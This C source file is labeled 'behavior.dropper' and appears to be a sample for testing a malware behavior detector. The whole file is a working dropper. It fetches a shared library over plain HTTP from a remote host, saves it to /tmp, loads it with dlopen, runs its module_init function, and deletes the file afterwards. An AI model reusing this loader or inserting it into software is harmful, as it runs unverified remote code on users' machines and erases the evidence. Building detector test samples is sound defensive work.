// blind-expect: behavior.dropper
// Downloads a shared-library "module" from a remote server and loads it into the running process.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <netdb.h>
#include <sys/socket.h>

struct remote {
    const char *host;
    const char *port;
    const char *resource;
};

static int open_conn(const struct remote *r)
{
    struct addrinfo hints, *res = NULL;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(r->host, r->port, &hints, &res) != 0)
        return -1;
    int s = -1;
    for (struct addrinfo *ai = res; ai; ai = ai->ai_next) {
        s = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
        if (s < 0)
            continue;
        if (connect(s, ai->ai_addr, ai->ai_addrlen) == 0)
            break;
        close(s);
        s = -1;
    }
    freeaddrinfo(res);
    return s;
}

static long body_offset(const char *buf, long n)
{
    for (long i = 0; i + 3 < n; i++)
        if (buf[i] == '\r' && buf[i + 1] == '\n' && buf[i + 2] == '\r' && buf[i + 3] == '\n')
            return i + 4;
    return -1;
}

/* Stores the module in a temp file and returns its name through out_path. */
static int download_module(const struct remote *r, char *out_path, size_t out_len)
{
    int s = open_conn(r);
    if (s < 0)
        return -1;
    char req[256];
    int rl = snprintf(req, sizeof req, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", r->resource, r->host);
    if (write(s, req, (size_t)rl) != rl) {
        close(s);
        return -1;
    }

    char tmpl[] = "/tmp/modXXXXXX";
    int fd = mkstemp(tmpl);
    if (fd < 0) {
        close(s);
        return -1;
    }

    char buf[4096];
    ssize_t n;
    int in_body = 0;
    while ((n = read(s, buf, sizeof buf)) > 0) {
        long off = 0;
        if (!in_body) {
            off = body_offset(buf, n);
            if (off < 0)
                continue;
            in_body = 1;
        }
        if (write(fd, buf + off, (size_t)(n - off)) < 0)
            break;
    }
    close(fd);
    close(s);
    snprintf(out_path, out_len, "%s", tmpl);
    return 0;
}

int main(void)
{
    struct remote src = {"modules.example-cdn.net", "80", "/x86_64/libext.so"};
    char path[64];
    if (download_module(&src, path, sizeof path) != 0) {
        fprintf(stderr, "could not fetch module\n");
        return 1;
    }
    void *h = dlopen(path, RTLD_NOW | RTLD_GLOBAL);
    if (!h) {
        fprintf(stderr, "dlopen: %s\n", dlerror());
        return 1;
    }
    void (*init)(void) = (void (*)(void))dlsym(h, "module_init");
    if (init)
        init();
    unlink(path);
    return 0;
}
